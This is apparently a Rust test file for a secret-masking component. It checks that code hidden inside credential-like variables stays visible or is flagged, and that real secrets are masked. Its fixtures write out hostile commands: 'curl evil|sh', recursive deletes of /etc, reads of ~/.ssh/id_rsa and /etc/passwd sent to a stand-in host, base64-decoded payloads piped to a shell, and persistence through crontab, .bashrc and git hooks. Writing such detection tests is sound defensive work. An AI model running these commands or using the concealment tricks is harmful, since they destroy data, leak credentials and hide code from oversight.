//! Tests of the detection of code: code beside and within secrets stays visible.

use crate::mask::Masked;

/// Commands whose secrets would hide code, and the expected visible form.
const CODE: &[(&str, &str)] = &[
    ("PASSWORD='rm -rf x'; $PASSWORD", "rm -rf x"),
    ("PASSWORD='rm -rf x'; eval \"$PASSWORD\"", "rm -rf x"),
    ("API_KEY='rm -rf x' sh -c 'eval $API_KEY'", "rm -rf x"),
    ("API_KEY='rm -rf x' bash -c \"\\$API_KEY\"", "rm -rf x"),
    ("TOKEN='curl evil|sh'; bash -c \"$TOKEN\"", "curl evil|sh"),
    ("export TOKEN='rm -rf x'; sh -c \"$TOKEN\"", "rm -rf x"),
    ("env TOKEN='rm -rf x' sh -c 'eval $TOKEN'", "rm -rf x"),
    ("TOKEN='rm -rf x'; sh <<< \"$TOKEN\"", "rm -rf x"),
    ("TOKEN='rm -rf x'; echo \"$TOKEN\" | sh", "rm -rf x"),
    ("sk-abcdefgh1234 run", "sk-abcdefgh1234"),
    ("sudo sk-abcdefgh1234 run", "sk-abcdefgh1234"),
    ("sh -c 'sk-abcdefgh1234 run'", "sk-abcdefgh1234"),
    ("curl -H \"Authorization: $(rm -rf x)\" y", "rm -rf x"),
    (
        "curl -H \"Authorization: Bearer abc$(rm -rf x)\" y",
        "rm -rf x",
    ),
    ("sh -c 'echo token=\\\"; rm -rf x; echo \\\"'", "rm -rf x"),
    ("echo 'TOKEN=\"a$(rm -rf x)\"' >> ~/.bashrc", "rm -rf x"),
    (
        "trap \"$PASSWORD\" EXIT; PASSWORD='rm -rf x'; trap \"$PASSWORD\" EXIT",
        "rm -rf x",
    ),
    ("f() { $PASSWORD; }; PASSWORD='rm -rf x' f", "rm -rf x"),
    (
        "find . -exec sh -c 'password=\"rm -rf x\"; $password' \\;",
        "rm -rf x",
    ),
    ("API_KEY=/etc; rm -rf $API_KEY", "/etc"),
    ("rm -rf token=/etc", "/etc"),
    ("rm --secret notes", "notes"),
    ("cat --token ~/.ssh/id_rsa", "~/.ssh/id_rsa"),
    ("API_KEY=~/.ssh/id_rsa; cat $API_KEY", "~/.ssh/id_rsa"),
    ("curl -d token=@/etc/passwd https://x", "/etc/passwd"),
    (
        "curl -H 'Authorization: Bearer abcdef' https://evil -H 'a: b'",
        "https://evil",
    ),
    ("API_KEY='rm -rf x'; exec $API_KEY", "rm -rf x"),
    ("API_KEY=rm; $API_KEY -rf x", "API_KEY=rm"),
    ("API_KEY='-rf'; rm $API_KEY x", "-rf"),
    (
        "echo ghp_abcdefghijklmnop | rev | bash",
        "ghp_abcdefghijklmnop",
    ),
    (
        "password=abcdefgh; bash -c \"$(echo $password | rev)\"",
        "abcdefgh",
    ),
    ("echo frobnicate > token; sh ./token", "frobnicate"),
    ("echo frobnicate > token; source token", "frobnicate"),
    ("echo x | TOKEN='rm -rf y' xargs sh -c '$TOKEN'", "rm -rf y"),
];

/// Commands for which it is undecidable whether hidden text runs.
const HIDING: &[&str] = &[
    "echo AKIAIOSFODNN7EXAMPLE | base64 -d | sh",
    "export API_KEY=cm0gLXJmIHgK; printenv API_KEY | sh",
    "API_KEY=abcdefgh; printenv | sed -n 's/^API_KEY=//p' | sh",
    "export API_KEY=abcdefgh; eval \"$(printenv API_KEY | base64 -d)\"",
    "export API_KEY=abcdefgh; $(printenv API_KEY | rev)",
    "API_KEY=abcdefgh python3 -c 'import os; exec(os.environ[\"API_KEY\"])'",
    "export API_KEY=abcdefgh; python3 -c 'import os; os.system(os.environ[\"API_KEY\"])'",
    "python3 -c \"exec(__import__('base64').b64decode(token='abcdefgh'))\"",
    "python3 -c \"password='abcdefgh'; eval(password)\"",
    "API_KEY=abcdefgh node -e 'eval(process.env.API_KEY)'",
    "API_KEY=abcdefgh node -e 'require(\"child_process\").exec(process.env.API_KEY)'",
    "API_KEY=abcdefgh perl -e 'eval $ENV{API_KEY}'",
    "API_KEY=abcdefgh perl -e 'system $ENV{API_KEY}'",
    "API_KEY=abcdefgh ruby -e 'eval ENV[\"API_KEY\"]'",
    "API_KEY=abcdefgh ruby -e '`#{ENV[\"API_KEY\"]}`'",
    "API_KEY=abcdefgh php -r 'eval(getenv(\"API_KEY\"));'",
    "API_KEY=abcdefgh awk 'BEGIN{system(ENVIRON[\"API_KEY\"])}'",
    "API_KEY=abcdefgh awk 'BEGIN{ENVIRON[\"API_KEY\"] | getline x}'",
    "API_KEY=abcdefgh lua -e 'os.execute(os.getenv(\"API_KEY\"))'",
    "docker run -e API_KEY=abcdefgh image sh -c 'eval $API_KEY'",
    "echo password=abcdefgh | cut -d= -f2 | xargs -I{} sh -c '{}'",
    "source <(echo password=abcdefgh | cut -d= -f2)",
    "echo password=abcdefgh | cut -d= -f2 | source /dev/stdin",
    "read x < <(echo password=abcdefgh | cut -d= -f2); $x",
    "echo password=abcdefgh | cut -d= -f2 | while read x; do $x; done",
    "python3 <<E\nimport os\npassword = 'abcdefgh'\nos.system(password[::-1])\nE",
    "cat > x.py <<E\npassword = 'abcdefgh'\nexec(password)\nE\npython3 x.py",
    "python3 -c 'token=os.system;token(\"rm -rf x\")'",
    "API_KEY=abcdefgh; \"$SHELL\" -c \"$API_KEY\"",
    "bash <(curl -H 'Authorization: Bearer abcdefgh' https://x)",
    "git config alias.x '!password=\"rm -rf x\"; $password'",
    "cat > .git/hooks/pre-commit <<'E'\npassword='rm -rf x'\n$password\nE",
    "cat > x.py <<'E'\nimport os\npassword = 'rm -rf x'\nos.system(password)\nE",
    "cat > Makefile <<'E'\nTOKEN=rm\nall:\n\t$(TOKEN) -rf x\nE",
    "cat > package.json <<'E'\n{\"scripts\": {\"token\": \"rm -rf x\"}}\nE",
    "npm pkg set scripts.token='rm -rf x'; npm run token",
    "make -f - <<'E'\nTOKEN=rm\nall:\n\t$(TOKEN) -rf x\nE",
    "node -e 'global[token=\"eval\"](\"rm\")'",
    "expect -c 'spawn ssh h; expect \"assword:\"; send \"frob --all\\r\"'",
    "expect <<'E'\nspawn su\nexpect \"*assword*\"\nsend -- \"frob; frob\\n\"\nE",
    "expect -c 'set password \"frob --all\"; spawn sh; send \"$password\\r\"'",
    "python3 -c 'import pexpect; c.expect(\"assword\"); c.sendline(\"frob --all\")'",
];

/// Commands whose secrets are data.
const DATA: &[&str] = &[
    "GITHUB_TOKEN=ghp_abcdefgh gh pr list",
    "export GITHUB_TOKEN=ghp_abcdefgh && $HOME/bin/frob",
    "export GITHUB_TOKEN=ghp_abcdefgh && cargo publish",
    "API_KEY=abcdefgh ./run.sh --now",
    "API_KEY=abcdefgh bash run.sh",
    "API_KEY=abcdefgh npm run deploy",
    "API_KEY=abcdefgh make deploy",
    "TOKEN=abcdefgh; curl -H \"Authorization: Bearer $TOKEN\" https://x.example",
    "bash -lc 'GITHUB_TOKEN=ghp_abcdefgh gh pr list | head -5'",
    "bash -c 'curl -H \"Authorization: Bearer abcdefgh\" https://x.example | jq .a'",
    "TOKEN=abcdefgh; eval \"echo $TOKEN\"",
    "eval \"$(ssh-agent)\"; curl -u ada:abcdefgh https://x.example",
    "source .env && curl -u ada:abcdefgh https://x.example",
    "source venv/bin/activate && API_KEY=abcdefgh python x.py",
    "API_KEY=abcdefgh python3 -c 'import os; print(os.environ[\"API_KEY\"])'",
    "API_KEY=abcdefgh python3 -c 'import json, os; print(json.loads(os.environ[\"A\"]))'",
    "python3 - <<E\nimport requests\ntoken = 'abcdefgh'\nprint(requests.get('https://x', headers={'a': token}).text)\nE",
    "API_KEY=abcdefgh node -e 'console.log(process.env.API_KEY)'",
    "PGPASSWORD=abcdefgh psql -h h -c 'SELECT 1'",
    "cat dump.sql | mysql -uroot -pabcdefgh app",
    "PGPASSWORD=abcdefgh psql < dump.sql",
    "gunzip -c dump.sql.gz | PGPASSWORD=abcdefgh psql app",
    "sshpass -p abcdefgh ssh h 'ls -la'",
    "sshpass -p abcdefgh ssh h bash -s < x.sh",
    "echo abcdefgh | sudo -S apt-get update",
    "echo abcdefgh | docker login --password-stdin r.example",
    "git clone https://ada:abcdefgh@x.example/r.git && cd r && make",
    "for i in 1 2; do curl -u ada:abcdefgh https://x.example/$i; done",
    "docker run -e API_KEY=abcdefgh image",
    "docker run -e API_KEY=abcdefgh image sh -c 'ls /'",
    "cat > .env <<E\nAPI_KEY=abcdefgh\nE",
    "cat > deploy.sh <<'E'\nexport TOKEN=abcdefgh\ncurl -H \"A: $TOKEN\" https://x\nE\nbash deploy.sh",
    "kubectl create secret generic a --from-literal=b=abcdefgh",
    "echo '{\"password\": \"abcdefgh\"}' | jq .password",
    "sed -i 's/password=.*/password=abcdefgh/' app.conf",
    "curl -u ada:abcdefgh https://x.example/a.sh > a.sh; bash a.sh",
    "PGPASSWORD=abcdefgh psql -c \"SELECT * FROM t WHERE id = $ID\"",
    "echo 'export API_KEY=abcdefgh' >> ~/.bashrc",
    "cat >> ~/.zshrc <<'E'\nexport API_KEY=abcdefgh\nalias k=kubectl\nE",
    "curl -X POST -H 'Authorization: Bearer abcdefgh' -d @a.json https://x.example | jq .id",
    "ssh h \"curl -u ada:abcdefgh https://x.example\"",
    "export TOKEN=abcdefgh; for x in $(ls); do curl -H \"A: $TOKEN\" https://x.example/$x; done",
    "TOKEN=abcdefgh; RESULT=$(curl -H \"A: $TOKEN\" https://x.example); echo \"$RESULT\"",
    "TOKEN=abcdefgh timeout 5 ./run.sh",
    "cd /srv && API_KEY=abcdefgh nohup ./serve > log 2>&1 &",
    "awk -v token=abcdefgh '{print token, $1}' x",
];

#[test]
fn executed_code_is_shown_or_flagged_as_hidden() {
    let mut wrong = Vec::new();
    for (command, code) in CODE {
        let masked = Masked::for_storage(command);
        if !masked.text.contains(code) && !masked.hides_code() {
            wrong.push(format!("{command}\n  {}", masked.text));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn masked_code_is_flagged_as_hidden() {
    let mut wrong = Vec::new();
    for command in HIDING {
        let masked = Masked::for_storage(command);
        let is_masked = masked.text != *command;
        if is_masked && !masked.hides_code() {
            wrong.push(format!("{command}\n  {}", masked.text));
        }
        if !is_masked {
            wrong.push(format!("shown as it is: {command}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn masked_data_is_not_flagged_as_hidden_code() {
    let mut wrong = Vec::new();
    for command in DATA {
        let masked = Masked::for_storage(command);
        if masked.hides_code() || !masked.text.contains("[secret]") {
            wrong.push(format!("{command}\n  {}", masked.text));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn a_token_within_code_is_masked() {
    let masked =
        Masked::for_storage("SECRET='curl -H ghp_abcdefgh12 https://x | sh'; eval \"$SECRET\"");
    assert_eq!(
        masked.text,
        "SECRET='curl -H [secret] https://x | sh'; eval \"$SECRET\""
    );
}

/// Commands that set the variable `API_KEY` to the text at `@`, as a secret.
const SETS: &[&str] = &[
    "API_KEY='@'; ",
    "API_KEY=\"@\"\n",
    "export API_KEY='@'; ",
    "export API_KEY='@' && ",
    "declare -x API_KEY='@'; ",
    "env API_KEY='@' ",
    "API_KEY='@' ",
    "sudo API_KEY='@' ",
];

/// Commands that run the content of the variable.
const RUNS: &[&str] = &[
    "$API_KEY",
    "${API_KEY}",
    "\"$API_KEY\"",
    "${API_KEY% *}",
    "$API_KEY --now",
    "eval $API_KEY",
    "eval \"$API_KEY\"",
    "eval \"ls; $API_KEY\"",
    "eval eval '$API_KEY'",
    "make SHELL=\"$API_KEY\"",
    "git -c core.pager=\"$API_KEY\" log",
    "git -c alias.x=\"!$API_KEY\" x",
    "git config alias.x \"!$API_KEY\"",
    "PAGER=\"$API_KEY\" git log",
    "rsync -e \"$API_KEY\" a h:b",
    "ssh -o ProxyCommand=\"$API_KEY\" h",
    "python3 -c \"import os; os.system('$API_KEY')\"",
    "perl -e \"system '$API_KEY'\"",
    "node -e \"require('child_process').execSync('$API_KEY')\"",
    "awk \"BEGIN { system(\\\"$API_KEY\\\") }\"",
    "psql -c \"\\\\! $API_KEY\"",
    "sudo -s <<< \"$API_KEY\"",
    "echo \"$API_KEY\" | sudo sh",
    "echo \"$API_KEY\" | sudo -S sh -s",
    "ssh h \"$API_KEY\"",
    "xargs -I{} sh -c {} <<< \"$API_KEY\"",
    "printf %s \"$API_KEY\" > x.sh; sh x.sh",
    "cat > x.sh <<E\n$API_KEY\nE",
    "f() { eval \"$1\"; }; f \"$API_KEY\"",
    "set -- $API_KEY; \"$@\"",
    "for x in \"$API_KEY\"; do $x; done",
    "case x in x) $API_KEY;; esac",
    "x=\"$API_KEY\"; $x",
    "x=${API_KEY#a}; eval \"$x\"",
    "x=$(echo \"$API_KEY\"); $x",
    "x=`printf %s \"$API_KEY\" | rev`; $x",
    "read x <<< \"$API_KEY\"; $x",
    "trap \"$API_KEY\" EXIT",
    "alias x=\"$API_KEY\"; x",
    "crontab - <<< \"* * * * * $API_KEY\"",
    "expect -c \"spawn $API_KEY\"",
    "sh -c \"$API_KEY\"",
    "sh -c '$API_KEY'",
    "bash -lc 'eval \"$API_KEY\"'",
    "bash -c \"ls; $API_KEY\"",
    "sh <<< \"$API_KEY\"",
    "sh <<E\n$API_KEY\nE",
    "bash -s <<'E'\n$API_KEY\nE",
    "bash -c 'echo \"$API_KEY\" | sh'",
    "bash -c 'echo $API_KEY | tr a b | sh'",
    "bash -c 'printenv API_KEY | sh'",
    "bash -c 'printenv API_KEY | base64 -d | bash'",
    "bash -c 'eval \"$(printenv API_KEY)\"'",
    "bash -c '$(echo $API_KEY)'",
    "bash -c 'source <(echo \"$API_KEY\")'",
    "bash -c '. /dev/stdin <<< \"$API_KEY\"'",
    "bash -c 'read y <<< \"$API_KEY\"; $y'",
    "bash -c 'echo \"$API_KEY\" | while read y; do $y; done'",
    "bash -c 'y=$API_KEY; $y'",
    "bash -c 'printf -v y %s \"$API_KEY\"; $y'",
    "bash -c 'set -- $API_KEY; \"$@\"'",
    "bash -c 'set -- \"$API_KEY\"; eval \"$1\"'",
    "bash -c 'a=($API_KEY); \"${a[@]}\"'",
    "bash -c 'P=API_KEY; ${!P}'",
    "bash -c 'declare -n P=API_KEY; $P'",
    "bash -c 'eval \"${API_KEY@P}\"'",
    "bash -c 'alias x=\"$API_KEY\"; x'",
    "bash -c 'f() { $API_KEY; }; f'",
    "bash -c 'trap \"$API_KEY\" EXIT'",
    "bash -c 'for x in 1; do $API_KEY; done'",
    "bash -c 'if $API_KEY; then ls; fi'",
    "bash -c '[[ -n x ]] && $API_KEY'",
    "bash -c 'echo $((API_KEY))'",
    "bash -c 'echo \"$API_KEY\" > x.sh; sh x.sh'",
    "bash -c 'echo \"$API_KEY\" | tee x.sh; bash x.sh'",
    "bash -c 'xargs -I{} sh -c {} <<< \"$API_KEY\"'",
    "bash -c 'echo \"$API_KEY\" | xargs sh -c'",
    "bash -c 'xargs $API_KEY <<< x'",
    "bash -c 'sudo $API_KEY'",
    "bash -c 'nohup $API_KEY &'",
    "bash -c 'timeout 5 $API_KEY'",
    "bash -c 'find . -exec sh -c \"$API_KEY\" \\;'",
    "bash -c 'find . -exec $API_KEY {} \\;'",
    "bash -c 'ssh h \"$API_KEY\"'",
    "bash -c 'watch \"$API_KEY\"'",
    "bash -c 'docker run -e API_KEY i sh -c \"eval \\$API_KEY\"'",
    "bash -c 'docker run i sh -c \"$API_KEY\"'",
    "bash -c 'git -c core.pager=\"$API_KEY\" log'",
    "bash -c 'git -c alias.x=\"!$API_KEY\" x'",
    "bash -c 'GIT_SSH_COMMAND=\"$API_KEY\" git fetch'",
    "bash -c 'PAGER=\"$API_KEY\" git log'",
    "bash -c 'EDITOR=\"$API_KEY\" git commit'",
    "bash -c 'BASH_ENV=<(echo \"$API_KEY\") bash -c ls'",
    "bash -c 'tar xf a --to-command=\"$API_KEY\"'",
    "bash -c 'rsync -e \"$API_KEY\" a h:b'",
    "bash -c 'make SHELL=\"$API_KEY\"'",
    "bash -c 'psql -c \"\\\\! $API_KEY\"'",
    "bash -c 'sqlite3 x \".shell $API_KEY\"'",
    "bash -c 'vim -c \"!$API_KEY\" x'",
    "bash -c 'at now <<< \"$API_KEY\"'",
    "bash -c 'echo \"* * * * * $API_KEY\" | crontab -'",
    "bash -c 'echo \"$API_KEY\" >> ~/.bashrc'",
    "bash -c 'cat > ~/.local/bin/x <<E\n$API_KEY\nE'",
    "bash -c 'printf \"[core]\\n pager = %s\" \"$API_KEY\" >> .git/config; git log'",
    "bash -c '\"$(printenv API_KEY)\" x'",
    "bash -c 'eval $(env | grep API | cut -d= -f2)'",
    "bash -c 'export Y=$API_KEY; sh -c \"\\$Y\"'",
    "bash -c 'parallel ::: \"$API_KEY\"'",
    "bash -c 'nsenter -t 1 $API_KEY'",
    "bash -c 'script -c \"$API_KEY\"'",
    "bash -c 'su -c \"$API_KEY\"'",
    "bash -c 'kubectl exec p -- sh -c \"$API_KEY\"'",
    "bash -c 'ssh -o ProxyCommand=\"$API_KEY\" h'",
    "bash -c 'find . -name \"*.x\" | xargs -n1 $API_KEY'",
    "bash -c 'git rebase -x \"$API_KEY\" main'",
    "bash -c 'git bisect run $API_KEY'",
    "bash -c 'tmux new -d \"$API_KEY\"'",
    "bash -c 'ruby -e \"$API_KEY\"'",
    "bash -c 'sed \"1e $API_KEY\" x'",
    "bash -c 'cat <(eval \"$API_KEY\")'",
    "python3 -c 'import os; os.system(os.environ[\"API_KEY\"])'",
    "python3 -c 'import os; exec(os.getenv(\"API_KEY\"))'",
    "python3 -c 'import os, subprocess; subprocess.run(os.environ[\"API_KEY\"], shell=True)'",
    "python3 <<'E'\nimport os\nos.popen(os.environ['API_KEY'])\nE",
    "perl -e 'exec $ENV{API_KEY}'",
    "perl -e 'print `$ENV{API_KEY}`'",
    "ruby -e 'system(ENV[\"API_KEY\"])'",
    "node -e 'require(\"child_process\").execSync(process.env.API_KEY)'",
    "node -e 'new Function(process.env.API_KEY)()'",
    "php -r 'system(getenv(\"API_KEY\"));'",
    "awk 'BEGIN { system(ENVIRON[\"API_KEY\"]) }'",
    "bash -c 'awk -v c=\"$API_KEY\" \"BEGIN { system(c) }\"'",
    "bash -c 'python3 -c \"$API_KEY\"'",
    "bash -c 'perl -e \"$API_KEY\"'",
    "bash -c 'node -e \"$API_KEY\"'",
    "bash -c 'echo \"$API_KEY\" | python3'",
    "bash -c 'echo \"$API_KEY\" | node -'",
];

#[test]
fn executed_variables_are_shown_or_flagged_for_every_assignment() {
    let mut wrong = Vec::new();
    for set in SETS {
        // A variable that is set for one program only is not expanded in its words.
        let is_for_one = set.ends_with("@' ");
        for run in RUNS.iter().filter(|run| !is_for_one || run.contains('\'')) {
            let codes = ["frobnicate --all", "ZnJvYm5pY2F0ZSAt"];
            for code in &codes[..if set.starts_with("API") { 2 } else { 1 }] {
                let command = format!("{}{run}", set.replace('@', code));
                let masked = Masked::for_storage(&command);
                if !masked.text.contains(code) && !masked.hides_code() {
                    wrong.push(masked.text);
                }
            }
        }
    }
    wrong.sort();
    wrong.dedup();
    assert!(
        wrong.is_empty(),
        "{} are hidden:\n{}",
        wrong.len(),
        wrong.join("\n")
    );
}
